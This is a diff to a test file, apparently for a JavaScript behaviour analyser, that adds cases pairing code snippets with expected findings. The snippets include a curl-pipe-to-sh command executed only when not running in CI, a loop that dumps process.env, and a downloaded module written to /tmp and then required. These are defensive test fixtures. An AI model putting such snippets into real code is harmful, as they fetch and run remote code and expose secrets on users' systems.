@@ -128,6 +128,17 @@ const CASES: Record<string, Case[]> = {
       [exec('shell', { input: ['decoded'] }), proc('sh', { stdin: ['network'] })],
     ],
     [
+      'a command line finished with += and gated by !',
+      `let c = 'curl -s http://${HOST}/i';\nc += ' | sh';\nif (!process.env.CI) require('child_process').execSync(c);`,
+      [exec('shell'), proc('sh', { stdin: ['network'] })],
+    ],
+    [
+      'a for…of over a list of commands runs each item, a for…in over the environment dumps it',
+      `const cp = require('child_process');\nfor (const c of ['id', 'uname -a']) cp.execSync(c);\nconst e = {};\nfor (const k in process.env) e[k] = 1;`,
+      [proc('id'), proc('uname'), env('dump', { line: 4 })],
+      [env('dump', { line: 2 })],
+    ],
+    [
       'a downloaded module written and required runs the download',
       `const { data } = await require('axios').get('https://p.example.com/m.js');\nrequire('fs').writeFileSync('/tmp/m.js', data);\nrequire('/tmp/m.js');`,
       [file('write', '/tmp/m.js', { content: ['network'] }), exec('require', { input: ['network'] })],
